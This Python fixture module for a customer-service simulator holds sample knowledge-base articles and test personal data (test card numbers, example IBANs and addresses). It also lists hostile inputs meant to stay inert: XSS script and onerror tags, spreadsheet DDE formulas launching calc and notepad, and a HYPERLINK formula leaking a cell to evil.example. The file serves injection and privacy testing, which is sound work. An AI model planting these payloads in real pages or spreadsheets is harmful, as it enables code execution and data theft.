"""Texts the simulator puts in insights: what agents and officers would really see (several
hundred of each kind, from streams.simulator.corpus), and the knowledge articles its
knowledge bases hold."""

from streams.simulator import corpus

# The knowledge bases' articles (streams.simulator.knowledge).
KNOWLEDGE = (
    "Offer the 30-day refund under policy KB-118: the order is within the return window "
    "and the item is unopened.",
    "Customer asks about international roaming: quote the Travel Pass add-on (KB-204), "
    "10 per day, activated automatically on arrival.",
    "Password reset loop: send the self-service link from KB-031 and confirm the customer "
    "can receive SMS at the number on file.",
    "Late delivery: apply the goodwill credit from KB-077 (up to 15) and give the new "
    "delivery estimate from the carrier portal.",
    "Direct debit failed: explain the 5-day retry window (KB-150) and offer to switch to a "
    "card payment today.",
    "Contract end date question: the minimum term ends on the date shown in Account > Plan; "
    "early exit fees follow KB-309.",
    "Warranty claim: devices under 24 months qualify for repair or replacement (KB-412); "
    "collect the serial number first.",
    "Address change: verify identity with two factors (KB-002) before updating the "
    "billing address.",
)
# Text that must stay data: HTML and script in a page, formulas in a spreadsheet.
HOSTILE = (
    "<script>alert('xss')</script> Customer pasted this into the chat.",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
    "+SUM(1+1)*cmd|' /C calc'!A0 quoted by the customer",
    "-2+3+cmd|' /C notepad'!'A1' pasted from an email",
    "@SUM(A1:A9) <img src=x onerror=alert(1)> in the customer's message",
    '\tTabbed text with "quotes", commas, and a line\nbreak',
)

# What customers say that assistgov must not keep: test card numbers (Luhn-valid, of no real
# account), example e-mail addresses, IBANs of the banks' published examples, phone numbers
# of the ranges kept for drama. Each template takes one.
PERSONAL = (
    (
        "Customer read out card {card} to pay the arrears; confirm the amount before taking it.",
        "card",
    ),
    (
        "Customer asks for the statement to be sent to {email}; check the address on file.",
        "email",
    ),
    ("Refund to IBAN {iban} as the customer asked; it must match the account holder.", "iban"),
    ("Call the customer back on {phone} before 5pm about the disputed charge.", "phone"),
    (
        "Customer gave card {card} (CVV 737) on the call: stop them, card codes are never taken.",
        "card",
    ),
)
PERSONAL_VALUES = {
    "card": (
        *("4111 1111 1111 1111", "5500-0000-0000-0004"),
        *("378282246310005", "6011 1111 1111 1117"),
    ),
    "email": ("jane.doe@example.com", "m.schmidt@example.de", "owen.price@example.co.uk"),
    "iban": ("DE89 3704 0044 0532 0130 00", "GB82 WEST 1234 5698 7654 32", "NL91ABNA0417164300"),
    "phone": ("+44 20 7946 0958", "020 7946 0321", "+49 30 901820"),
}

BY_TYPE = {
    "knowledge_recommendation": corpus.knowledge(),
    "sentiment_alert": corpus.sentiment(),
    "compliance_flag": corpus.compliance(),
}

# Conversation summaries (Agent Copilot's): text, likely wrap-up codes, reason, resolution
# and follow-up.
SUMMARIES = corpus.summaries()
